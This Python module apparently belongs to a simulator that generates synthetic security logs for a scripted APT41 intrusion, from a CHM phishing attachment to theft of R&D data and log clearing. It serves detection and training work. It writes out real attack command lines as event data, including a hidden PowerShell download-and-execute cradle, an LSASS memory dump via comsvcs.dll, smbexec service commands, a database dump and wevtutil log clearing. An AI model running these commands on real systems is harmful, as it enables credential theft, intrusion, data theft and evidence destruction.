"""The APT41 intrusion: a CHM spearphish on an R&D workstation to the theft of the crown jewels.

Tuesday: the attachment runs, DUSTPAN is installed as a scheduled task and its
KEYPLUG payload beacons over HTTPS. Wednesday: a DUSTTRAP plugin, an LSASS dump
(an IT administrator had logged on to the machine by RDP that morning), domain
discovery. Wednesday night: with the administrator's credentials, through the
implant, the actor reaches the R&D share, the PLM server, the ELN and GitLab,
stages everything in password-protected RAR volumes, sends them over the C2
channel in fixed-size chunks and clears the event logs. The implant stays.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from crownwatch.scenario import activity, actors, habits, linux, network, windows
from crownwatch.scenario import company as co
from crownwatch.scenario.activity import MS, Ctx, Proc
from crownwatch.scenario.formats import DAY_US, SECOND

HOUR = 3600 * SECOND
MIN = 60 * SECOND
DEVICE_SYNC = "C:\\ProgramData\\Microsoft\\DeviceSync"
TASK = "\\Microsoft\\Windows\\DeviceSync\\DeviceSyncTask"
RAR_PASSWORD = "Gl4ssR3agent!26"
RAR_META = ("7.1.0", "Command line RAR", "WinRAR", "Alexander Roshal", "Rar.exe")
CHUNK = 419_430_400  # RAR volumes of 400 MiB, sent one per connection
CMD = "C:\\Windows\\System32\\cmd.exe"
Story = dict[str, Any]


def prepare(ctx: Ctx, world: dict[str, Any], start: int, days: int) -> dict[str, Any]:
    """Choose the victim and the administrator, and schedule the intrusion."""
    rng = ctx.rng
    data = actors.load()["apt41"]
    infra = data["infrastructure"]
    users = ctx.company["users"]
    victim = rng.choice([u for u in users if u["profile"] == "rnd"])
    admin = rng.choice([u for u in users if u["profile"] == "it"])
    victim["pinned"] = victim["stays"] = True
    admin["pinned"] = True
    for name in (infra["c2_domain"], infra["fallback_domain"]):
        ctx.dns[name] = (infra["c2_ip"], "")
    ctx.dns[infra["staging_domain"]] = (infra["staging_ip"], "")
    base = start + (7 if days >= 14 else 0) * DAY_US
    d1, d2, d3 = base + DAY_US, base + 2 * DAY_US, base + 3 * DAY_US
    story: dict[str, Any] = {
        "ctx": ctx,
        "data": data,
        "tags": actors.tags("apt41", "apt41"),
        "victim": victim,
        "admin": admin,
        "ws": ctx.company["host"][victim["workstation"]],
        "end": start + days * DAY_US,
        "implant": None,
        "beacons": 0,
        "rnd_files": world["rnd_files"],
        "active": [
            (d1 + 8 * HOUR, d1 + 12 * HOUR),
            (d2 + 12 * HOUR + 50 * MIN, d2 + 14 * HOUR + 30 * MIN),
            (d2 + 22 * HOUR + 40 * MIN, d3 + 6 * HOUR + 10 * MIN),
        ],
    }
    plan = (
        (d1 + 8 * HOUR + 41 * MIN + 13 * SECOND, phishing),
        (d2 + 9 * HOUR + 20 * MIN, admin_support),
        (d2 + 13 * HOUR + 5 * MIN, plugin),
        (d2 + 13 * HOUR + 12 * MIN, lsass_dump),
        (d2 + 13 * HOUR + 25 * MIN, discovery),
        (d2 + 22 * HOUR + 50 * MIN, rar_download),
        (d2 + 23 * HOUR + 10 * MIN, lateral_fs),
        (d3 + 2 * MIN, plm),
        (d3 + 1 * HOUR + 30 * MIN, collect_rnd),
        (d3 + 2 * HOUR + 14 * MIN, collect_git),
        (d3 + 2 * HOUR + 50 * MIN, collect_eln),
        (d3 + 3 * HOUR + 40 * MIN, stage),
        (d3 + 3 * HOUR + 55 * MIN, exfiltrate),
        (d3 + 5 * HOUR + 40 * MIN, clear_tracks),
    )
    for ts, step in plan:
        activity.at(ctx, ts, _bind(step, story))
    return {
        "victim": victim["username"],
        "workstation": victim["workstation"],
        "stolen_account": admin["admin_account"],
        "first_event": d1 + 8 * HOUR + 41 * MIN + 13 * SECOND,
    }


def _bind(step: Callable[[Story, int], None], story: Story) -> Callable[[int], None]:
    """A task for the scheduler: ``step(story, ts)``."""

    def run(ts: int) -> None:
        step(story, ts)

    return run


def _cmd(
    story: dict[str, Any],
    ts: int,
    command: str,
    tag: str,
    image: str | None = None,
    *,
    file_hashes: tuple[str, str, str] | None = None,
    meta: tuple[str, str, str, str, str] | None = None,
) -> Proc:
    """``cmd.exe /c command`` from the implant and, with ``image``, the program it runs."""
    ctx, ws, t = story["ctx"], story["ws"], story["tags"][tag]
    implant = story["implant"]
    acct = implant["user"]
    level = implant["integrity"]
    shell = windows.start(
        ctx,
        ts,
        ws,
        CMD,
        f'C:\\Windows\\system32\\cmd.exe /C "{command}"',
        implant,
        acct,
        integrity=level,
        cwd=f"{DEVICE_SYNC}\\",
        truth=t,
    )
    if image is None:
        return shell
    return windows.start(
        ctx,
        ts + 40 * MS,
        ws,
        image,
        command,
        shell,
        acct,
        integrity=level,
        truth=t,
        file_hashes=file_hashes,
        meta=meta,
    )


# --- Tuesday: initial access, execution, persistence ----------------------------------------


def phishing(story: dict[str, Any], ts: int) -> None:
    ctx, ws, tags = story["ctx"], story["ws"], story["tags"]
    data = story["data"]
    files, infra = data["files"], data["infrastructure"]
    sess = ctx.sessions[story["victim"]["username"]]
    user = story["victim"]["username"]
    outlook = habits.app(ctx, sess, ts, "outlook")
    chm = (
        f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
        f"\\7Q2ZK1M4\\{files['chm']['name']}"
    )
    windows.file_created(ctx, ts, ws, outlook, chm, tags["phishing-attachment"])
    ts += 25 * SECOND
    hh = windows.start(
        ctx,
        ts,
        ws,
        "C:\\Windows\\hh.exe",
        f'"C:\\Windows\\hh.exe" {chm}',
        outlook,
        sess["acct"],
        cwd=f"C:\\Users\\{user}\\",
        truth=tags["chm-opened"],
    )
    ts += 6 * SECOND
    cradle = f"IEX(New-Object Net.WebClient).DownloadString('{infra['download_url']}')"
    ps_line = f'powershell -nop -w hidden -ep bypass -c "{cradle}"'
    shell = windows.start(
        ctx,
        ts,
        ws,
        CMD,
        f'"C:\\Windows\\System32\\cmd.exe" /c start /min {ps_line}',
        hh,
        sess["acct"],
        truth=tags["cmd-from-chm"],
    )
    ps = windows.start(
        ctx,
        ts + 300 * MS,
        ws,
        habits.POWERSHELL,
        ps_line,
        shell,
        sess["acct"],
        truth=tags["powershell-cradle"],
    )
    windows.script_block(ctx, ts + 900 * MS, ws, user, cradle, tags["powershell-cradle"])
    *_, t = network.flow(
        ctx,
        ts + SECOND,
        ws,
        ps,
        "",
        443,
        name=infra["staging_domain"],
        ob=1_800,
        rb=2_412_044,
        duration=3.4,
        tls=network.TLS12_PUBLIC,
        truth=tags["dropper-download"],
    )
    stage2 = (
        '$d="$env:ProgramData\\Microsoft\\DeviceSync";New-Item -ItemType Directory -Force $d|'
        'Out-Null;$b=[Convert]::FromBase64String($p[0]);[IO.File]::WriteAllBytes("$d\\'
        'DeviceSyncSvc.exe",$b);[IO.File]::WriteAllBytes("$d\\DeviceSync.dat",[Convert]::'
        'FromBase64String($p[1]));Start-Process "$d\\DeviceSyncSvc.exe" -WindowStyle Hidden'
    )
    windows.script_block(ctx, t + 4 * SECOND, ws, user, stage2, tags["powershell-cradle"])
    t += 5 * SECOND
    windows.file_created(ctx, t, ws, ps, files["dustpan"]["path"], tags["dropper-masquerade"])
    windows.file_created(
        ctx, t + 30 * MS, ws, ps, files["payload"]["path"], tags["dropper-download"]
    )
    dropper = _dustpan(story, t + SECOND, ps, sess["acct"], "Medium", "dropper-masquerade")
    t += 30 * SECOND
    task_line = (
        f'schtasks /create /tn "{TASK}" /tr "{files["dustpan"]["path"]} -k '
        'netsvcs" /sc onlogon /rl highest /f'
    )
    story["implant"] = dropper
    _cmd(story, t, task_line, "scheduled-task", "C:\\Windows\\System32\\schtasks.exe")
    xml = _task_xml(user, files["dustpan"]["path"])
    windows.task_created(ctx, t + 200 * MS, ws, sess["acct"], TASK, xml, tags["scheduled-task"])
    t += 5 * SECOND
    run_line = f'schtasks /run /tn "{TASK}"'
    _cmd(story, t, run_line, "task-elevated-run", "C:\\Windows\\System32\\schtasks.exe")
    schedule = windows.system_proc(ctx, ws, "schedule")
    story["implant"] = _dustpan(
        story, t + 700 * MS, schedule, sess["acct"], "High", "task-elevated-run"
    )
    activity.at(ctx, t + 3 * SECOND, lambda when: beacon(story, when))


def _dustpan(
    story: dict[str, Any], ts: int, parent: Proc, acct: activity.Acct, level: str, tag: str
) -> Proc:
    files = story["data"]["files"]
    f = files["dustpan"]
    return windows.start(
        story["ctx"],
        ts,
        story["ws"],
        f["path"],
        f'"{f["path"]}" -k netsvcs',
        parent,
        acct,
        integrity=level,
        cwd=f"{DEVICE_SYNC}\\",
        truth=story["tags"][tag],
        file_hashes=actors.hashes(f),
        meta=(
            "10.0.22621.1",
            "Device Sync Service",
            "Microsoft® Windows® Operating System",
            "Microsoft Corporation",
            "DeviceSyncSvc.exe",
        ),
    )


def _task_xml(user: str, path: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.'
        'microsoft.com/windows/2004/02/mit/task">\r\n  <Triggers>\r\n    <LogonTrigger>\r\n'
        "      <Enabled>true</Enabled>\r\n    </LogonTrigger>\r\n  </Triggers>\r\n  <Principals>"
        f'\r\n    <Principal id="Author">\r\n      <UserId>{co.NETBIOS}\\{user}</UserId>\r\n'
        "      <RunLevel>HighestAvailable</RunLevel>\r\n    </Principal>\r\n  </Principals>\r\n"
        f'  <Actions Context="Author">\r\n    <Exec>\r\n      <Command>{path}</Command>\r\n'
        "      <Arguments>-k netsvcs</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n</Task>"
    )


def beacon(story: dict[str, Any], ts: int) -> None:
    """One KEYPLUG check-in; every minute while the operator works, else every 15 minutes."""
    if ts >= story["end"]:
        return
    ctx, ws, tags = story["ctx"], story["ws"], story["tags"]
    rng = ctx.rng
    infra = story["data"]["infrastructure"]
    active = any(lo <= ts < hi for lo, hi in story["active"])
    story["beacons"] += 1
    if story["beacons"] % 40 == 0:
        network.resolve(
            ctx,
            ts,
            ws,
            story["implant"],
            infra["fallback_domain"],
            cached=False,
            truth=tags["c2-https-beacon"],
        )
        ts += 150 * MS
    network.flow(
        ctx,
        ts,
        ws,
        story["implant"],
        "",
        443,
        name=infra["c2_domain"],
        ob=rng.randint(620, 1_450),
        rb=rng.randint(310, 980),
        duration=rng.uniform(0.2, 0.9),
        tls=network.TLS12_PUBLIC,
        resumed=rng.random() < 0.85,
        truth=tags["c2-https-beacon"],
        ssl_truth=tags["c2-tls-channel"],
    )
    delay = rng.uniform(54, 66) if active else rng.uniform(810, 990)
    activity.at(ctx, ts + int(delay * SECOND), lambda when: beacon(story, when))


# --- Wednesday: credentials and discovery -----------------------------------------------------


def admin_support(story: dict[str, Any], ts: int) -> None:
    """Context, not malicious: the administrator fixes the lab software over RDP."""
    ctx, ws = story["ctx"], story["ws"]
    admin = story["admin"]
    sess = ctx.sessions.get(admin["username"])
    adm = activity.account(admin, admin=True)
    if sess is None:
        activity.at(ctx, ts + 20 * MIN, _bind(admin_support, story))
        return
    mstsc = habits.rdp_client(ctx, ts, sess, ws, adm)
    habits.rdp_session(
        ctx, ts + 5 * SECOND, sess["host"], mstsc, ws, adm, 25 * 60, 2_400_000, 31_000_000
    )


def _implant_flow(story: dict[str, Any], ts: int, ob: int, rb: int, tag: str) -> int:
    ctx = story["ctx"]
    infra = story["data"]["infrastructure"]
    dur = max(0.5, (ob + rb) / 3_500_000)
    network.flow(
        ctx,
        ts,
        story["ws"],
        story["implant"],
        infra["c2_ip"],
        443,
        name=infra["c2_domain"],
        ob=ob,
        rb=rb,
        duration=dur,
        tls=network.TLS12_PUBLIC,
        truth=story["tags"][tag],
    )
    return ts + int(dur * SECOND)


def plugin(story: dict[str, Any], ts: int) -> None:
    """DUSTTRAP arrives over the C2 channel and is started with rundll32."""
    ctx, ws, tags = story["ctx"], story["ws"], story["tags"]
    f = story["data"]["files"]["dusttrap"]
    t = _implant_flow(story, ts, 2_300, 389_120, "plugin-download")
    windows.file_created(ctx, t, ws, story["implant"], f["path"], tags["plugin-download"])


def lsass_dump(story: dict[str, Any], ts: int) -> None:
    ctx, ws, tags = story["ctx"], story["ws"], story["tags"]
    lsass = windows.system_proc(ctx, ws, "lsass")
    dump = f"{DEVICE_SYNC}\\dsync.tmp"
    line = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass['pid']} {dump} full"
    rundll = _cmd(story, ts, line, "lsass-dump", "C:\\Windows\\System32\\rundll32.exe")
    trace = (
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
        "C:\\Windows\\System32\\comsvcs.dll+3a5b1|C:\\Windows\\System32\\comsvcs.dll+3a9c2|"
        "C:\\Windows\\SYSTEM32\\dbgcore.DLL+6b3d|UNKNOWN(00007FF8A1C2E0D4)"
    )
    windows.process_access(
        ctx, ts + 300 * MS, ws, rundll, lsass, "0x1FFFFF", trace, tags["lsass-dump"]
    )
    windows.file_created(ctx, ts + 2 * SECOND, ws, rundll, dump, tags["lsass-dump"])
    _implant_flow(story, ts + 40 * SECOND, 48_211_967, 4_100, "lsass-dump-upload")


def discovery(story: dict[str, Any], ts: int) -> None:
    ctx, ws = story["ctx"], story["ws"]
    rng = ctx.rng
    net, net1 = "C:\\Windows\\System32\\net.exe", "C:\\Windows\\System32\\net1.exe"
    dc = ctx.company["host"]["DC01"]
    steps = (
        ("whoami /all", "discover-owner", "C:\\Windows\\System32\\whoami.exe", None),
        ("systeminfo", "discover-system", "C:\\Windows\\System32\\systeminfo.exe", None),
        ("ipconfig /all", "discover-network", "C:\\Windows\\System32\\ipconfig.exe", None),
        ("net user /domain", "discover-domain-accounts", net, dc),
        ('net group "Domain Admins" /domain', "discover-admin-groups", net, dc),
        ('net group "Domain Computers" /domain', "discover-remote-systems", net, dc),
        (
            "nltest /dclist:helix.corp",
            "discover-remote-systems",
            "C:\\Windows\\System32\\nltest.exe",
            dc,
        ),
        ("net view \\\\FS-RND-01 /all", "discover-shares", net, ctx.company["host"]["FS-RND-01"]),
        ("net view \\\\PLM01 /all", "discover-shares", net, ctx.company["host"]["PLM01"]),
    )
    for line, tag, image, server in steps:
        proc = _cmd(story, ts, line, tag, image)
        t = story["tags"][tag]
        if image == net:
            proc = windows.start(
                ctx,
                ts + 30 * MS,
                ws,
                net1,
                line.replace("net ", "net1 ", 1),
                proc,
                proc["user"],
                integrity=proc["integrity"],
                truth=t,
            )
        if server is not None:
            network.flow(
                ctx,
                ts + 100 * MS,
                ws,
                proc,
                server["ip"],
                445,
                service="gssapi,smb",
                ob=rng.randint(2_000, 9_000),
                rb=rng.randint(3_000, 60_000),
                duration=rng.uniform(0.1, 1.5),
                truth=t,
            )
        ts += rng.randint(20, 140) * SECOND
    ping = _cmd(
        story,
        ts,
        "ping -n 1 git01.helix.corp",
        "discover-remote-systems",
        "C:\\Windows\\System32\\PING.EXE",
    )
    network.resolve(
        ctx,
        ts + 50 * MS,
        ws,
        ping,
        "git01.helix.corp",
        cached=False,
        truth=story["tags"]["discover-remote-systems"],
    )
    network.conn(
        ctx,
        ts + 90 * MS,
        ws["ip"],
        8,
        ctx.company["host"]["git01"]["ip"],
        0,
        proto="icmp",
        duration=0.0004,
        ob=32,
        rb=32,
        truth=story["tags"]["discover-remote-systems"],
    )


# --- Wednesday night: lateral movement, collection, staging, exfiltration ---------------------


def rar_download(story: dict[str, Any], ts: int) -> None:
    f = story["data"]["files"]["rar"]
    t = _implant_flow(story, ts, 1_900, 733_184, "plugin-download")
    windows.file_created(
        story["ctx"], t, story["ws"], story["implant"], f["path"], story["tags"]["plugin-download"]
    )


def _admin(story: dict[str, Any]) -> activity.Acct:
    return activity.account(story["admin"], admin=True)


def lateral_fs(story: dict[str, Any], ts: int) -> None:
    """Impacket smbexec through the implant to the R&D file server (admin share, service)."""
    ctx, ws, tags = story["ctx"], story["ws"], story["tags"]
    rng = ctx.rng
    fs = ctx.company["host"]["FS-RND-01"]
    adm = _admin(story)
    implant = story["implant"]
    habits.explicit(ctx, ts, ws, implant["user"], adm, fs, implant, tags["stolen-admin-logon"])
    end = network.smb_session(
        ctx,
        ts + SECOND,
        ws,
        fs,
        adm,
        "ADMIN$",
        "C:\\Windows",
        [],
        admin=True,
        proc=story["implant"],
        kerberos=False,
        truth=tags["smb-admin-share"],
    )
    t = end + 2 * SECOND
    services = windows.system_proc(ctx, fs, "services")
    for command in ("dir /s /b D:\\Shares\\RnD\\Oncology", "net share"):
        name = "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(8))
        body = (
            f"%COMSPEC% /Q /c echo {command} ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > "
            "%TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat & del "
            "%TEMP%\\execute.bat"
        )
        windows.win(
            ctx,
            t,
            fs,
            "system",
            7045,
            {
                "ServiceName": name,
                "ImagePath": body,
                "ServiceType": "user mode service",
                "StartType": "demand start",
                "AccountName": "LocalSystem",
            },
            truth=tags["remote-service-exec"],
        )
        line = body.replace("%COMSPEC%", "C:\\Windows\\system32\\cmd.exe").replace(
            "%TEMP%", "C:\\Windows\\TEMP"
        )
        windows.start(
            ctx,
            t + 300 * MS,
            fs,
            CMD,
            line,
            services,
            activity.SYSTEM,
            integrity="System",
            truth=tags["remote-service-exec"],
        )
        t = network.smb_session(
            ctx,
            t + 2 * SECOND,
            ws,
            fs,
            adm,
            "C$",
            "C:\\",
            [("__output", rng.randint(900, 90_000))],
            admin=True,
            proc=story["implant"],
            kerberos=False,
            truth=tags["remote-service-exec"],
        )
        t += rng.randint(10, 40) * SECOND


def plm(story: dict[str, Any], ts: int) -> None:
    """RAR to the PLM server's C$, an RDP session there to archive the vault, the pull back."""
    ctx, ws, tags = story["ctx"], story["ws"], story["tags"]
    rng = ctx.rng
    server = ctx.company["host"]["PLM01"]
    adm = _admin(story)
    rar = story["data"]["files"]["rar"]
    public = "C:\\Users\\Public\\Libraries"
    end = network.smb_session(
        ctx,
        ts,
        ws,
        server,
        adm,
        "C$",
        "C:\\",
        [("Users\\Public\\Libraries\\rr.exe", 733_184)],
        action="SMB::FILE_WRITE",
        admin=True,
        proc=story["implant"],
        kerberos=False,
        mime="application/x-dosexec",
        file_hashes=actors.hashes(rar),
        truth=tags["tool-transfer"],
    )
    t = end + 3 * MIN
    length = 38 * 60
    acct = habits.rdp_session(
        ctx, t, ws, story["implant"], server, adm, length, 3_100_000, 48_000_000, tags["rdp-to-plm"]
    )
    winlogon = windows.system_proc(ctx, server, "winlogon")
    t += 6 * SECOND
    userinit = windows.start(
        ctx,
        t,
        server,
        "C:\\Windows\\System32\\userinit.exe",
        "C:\\Windows\\system32\\userinit.exe",
        winlogon,
        acct,
        integrity="High",
        truth=tags["rdp-to-plm"],
    )
    explorer = windows.start(
        ctx,
        t + SECOND,
        server,
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        userinit,
        acct,
        integrity="High",
        truth=tags["rdp-to-plm"],
    )
    t += 2 * MIN
    shell = windows.start(
        ctx,
        t,
        server,
        CMD,
        '"C:\\Windows\\system32\\cmd.exe" ',
        explorer,
        acct,
        integrity="High",
        truth=tags["rdp-to-plm"],
    )
    vault = "D:\\PTC\\Windchill\\vaults\\defaultcachevault\\InfuMax-3"
    copy = f"robocopy {vault} {public}\\cache /E /R:0 /W:0 /NP /NFL /NDL"
    windows.start(
        ctx,
        t + 15 * SECOND,
        server,
        "C:\\Windows\\System32\\Robocopy.exe",
        copy,
        shell,
        acct,
        integrity="High",
        truth=tags["collect-plm-vault"],
    )
    t += rng.randint(4, 9) * MIN
    archive = f"{public}\\ptc_cache.rar"
    line = f"{public}\\rr.exe a -m5 -r -hp{RAR_PASSWORD} -v400m {archive} {public}\\cache\\*"
    rr = windows.start(
        ctx,
        t + 20 * SECOND,
        server,
        f"{public}\\rr.exe",
        line,
        shell,
        acct,
        integrity="High",
        truth=tags["archive-rar"],
        file_hashes=actors.hashes(rar),
        meta=RAR_META,
    )
    parts = [f"{public}\\ptc_cache.part{n}.rar" for n in (1, 2, 3, 4)]
    t += 20 * SECOND
    for path in parts:
        t += rng.randint(40, 90) * SECOND
        windows.file_created(ctx, t, server, rr, path, tags["archive-staged"])
    t += 2 * MIN
    windows.start(
        ctx,
        t,
        server,
        "C:\\Windows\\System32\\wevtutil.exe",
        "wevtutil cl Security",
        shell,
        acct,
        integrity="High",
        truth=tags["clear-event-logs"],
    )
    _cleared(ctx, t + 400 * MS, server, acct, tags["clear-event-logs"])
    sizes = [CHUNK, CHUNK, CHUNK, rng.randint(90_000_000, 300_000_000)]
    pull = end + length * SECOND + 5 * MIN
    network.smb_session(
        ctx,
        pull,
        ws,
        server,
        adm,
        "C$",
        "C:\\",
        [(p[3:], s) for p, s in zip(parts, sizes, strict=True)],
        action="SMB::FILE_READ",
        admin=True,
        proc=story["implant"],
        kerberos=False,
        gap=(8_000, 30_000),
        truth=tags["collect-plm-archive"],
    )


def _cleared(ctx: Ctx, ts: int, host: co.Host, acct: activity.Acct, truth: activity.Truth) -> None:
    """1102: the Security log was cleared."""
    windows.win(
        ctx,
        ts,
        host,
        "security",
        1102,
        windows.subject(acct) | {"xml_name": "LogFileCleared"},
        provider="Microsoft-Windows-Eventlog",
        user=acct["name"],
        truth=truth,
        user_data=True,
    )


def collect_rnd(story: dict[str, Any], ts: int) -> None:
    """robocopy of two programme folders from the R&D share into the staging folder."""
    ctx, ws, tags = story["ctx"], story["ws"], story["tags"]
    world_files = story["rnd_files"]
    fs = ctx.company["host"]["FS-RND-01"]
    t = ts
    for project in ("Oncology\\HX-2231", "Formulation\\HX-2231-F"):
        dest = f"{DEVICE_SYNC}\\cache\\{project.split(chr(92))[-1].lower()}"
        line = f"robocopy \\\\FS-RND-01\\RnD\\{project} {dest} /E /R:0 /W:0 /NP /NFL /NDL /MT:8"
        proc = _cmd(story, t, line, "collect-rnd-share", "C:\\Windows\\System32\\Robocopy.exe")
        items = [(name, size) for name, size in world_files[project]]
        t = network.smb_session(
            ctx,
            t + SECOND,
            ws,
            fs,
            story["implant"]["user"],
            "RnD",
            "D:\\Shares\\RnD",
            items,
            action="SMB::FILE_READ",
            gap=(60, 600),
            proc=proc,
            truth=tags["collect-rnd-share"],
        )
        t += 2 * MIN


def collect_git(story: dict[str, Any], ts: int) -> None:
    """Clones of the firmware and research repositories, proxied through the implant."""
    ctx, ws, tags = story["ctx"], story["ws"], story["tags"]
    rng = ctx.rng
    t = ts
    for _repo in co.REPOS[:4]:
        size = rng.randint(180_000_000, 900_000_000)
        dur = size / 60_000_000
        network.flow(
            ctx,
            t,
            ws,
            story["implant"],
            "",
            443,
            name="git.helix.corp",
            ob=rng.randint(20_000, 60_000),
            rb=size,
            duration=dur,
            tls=network.TLS12_INTERNAL,
            truth=tags["collect-source-code"],
        )
        t += int((dur + rng.uniform(20, 90)) * SECOND)


def collect_eln(story: dict[str, Any], ts: int) -> None:
    """ssh to the ELN with the administrator's password; a full database dump."""
    ctx, ws, tags = story["ctx"], story["ws"], story["tags"]
    eln = ctx.company["host"]["eln01"]
    adm = _admin(story)
    network.resolve(
        ctx, ts, ws, story["implant"], eln["fqdn"], cached=False, truth=tags["ssh-to-eln"]
    )
    linux.ssh_session(
        ctx,
        ts + 200 * MS,
        ws,
        story["implant"],
        eln,
        adm["name"],
        1_500_000 + story["admin"]["rid"],
        method="password",
        duration=26 * 60,
        ob=48_000,
        rb=2_140_000_000,
        commands=(
            "/usr/bin/mysqldump --single-transaction --all-databases -r /tmp/.cache/eln_full.sql",
            "/usr/bin/tar czf /tmp/.cache/eln.tgz /tmp/.cache/eln_full.sql",
            "/usr/bin/rm -rf /tmp/.cache",
        ),
        truth=tags["ssh-to-eln"],
        sudo_truth=tags["collect-eln-database"],
    )


def stage(story: dict[str, Any], ts: int) -> None:
    """RAR volumes of everything collected, in the implant's folder."""
    ctx, ws, tags = story["ctx"], story["ws"], story["tags"]
    rng = ctx.rng
    rar = story["data"]["files"]["rar"]
    out = f"{DEVICE_SYNC}\\cache\\out\\d.rar"
    line = f"{rar['path']} a -m5 -r -hp{RAR_PASSWORD} -v400m {out} {DEVICE_SYNC}\\cache\\*"
    proc = _cmd(
        story, ts, line, "archive-rar", rar["path"], file_hashes=actors.hashes(rar), meta=RAR_META
    )
    t = ts
    story["volumes"] = 9
    for n in range(1, story["volumes"] + 1):
        t += rng.randint(60, 100) * SECOND
        windows.file_created(
            ctx, t, ws, proc, f"{DEVICE_SYNC}\\cache\\out\\d.part{n}.rar", tags["archive-staged"]
        )


def exfiltrate(story: dict[str, Any], ts: int) -> None:
    """One 400 MiB volume per connection to the C2 server."""
    rng = story["ctx"].rng
    t = ts
    for n in range(story.get("volumes", 9)):
        size = CHUNK if n < story.get("volumes", 9) - 1 else rng.randint(50_000_000, CHUNK)
        t = _implant_flow(
            story, t, size + rng.randint(9_000, 40_000), rng.randint(6_000, 12_000), "exfil-over-c2"
        )
        t += rng.randint(15, 60) * SECOND


def clear_tracks(story: dict[str, Any], ts: int) -> None:
    ctx, ws, tags = story["ctx"], story["ws"], story["tags"]
    line = "wevtutil cl Security"
    _cmd(story, ts, line, "clear-event-logs", "C:\\Windows\\System32\\wevtutil.exe")
    _cleared(ctx, ts + 500 * MS, ws, story["implant"]["user"], tags["clear-event-logs"])
    line = 'wevtutil cl "Microsoft-Windows-PowerShell/Operational"'
    _cmd(story, ts + 3 * SECOND, line, "clear-event-logs", "C:\\Windows\\System32\\wevtutil.exe")
    acct = story["implant"]["user"]
    windows.win(
        ctx,
        ts + 3500 * MS,
        ws,
        "system",
        104,
        {
            "SubjectUserName": acct["name"],
            "SubjectDomainName": acct["domain"],
            "Channel": "Microsoft-Windows-PowerShell/Operational",
            "BackupPath": "",
            "xml_name": "LogFileCleared",
        },
        provider="Microsoft-Windows-Eventlog",
        user=acct["name"],
        truth=tags["clear-event-logs"],
        user_data=True,
    )
    line = (
        f"del /f /q /s {DEVICE_SYNC}\\cache\\* {DEVICE_SYNC}\\dsync.tmp & rmdir /s /q "
        f"{DEVICE_SYNC}\\cache"
    )
    _cmd(story, ts + 20 * SECOND, line, "delete-staging")
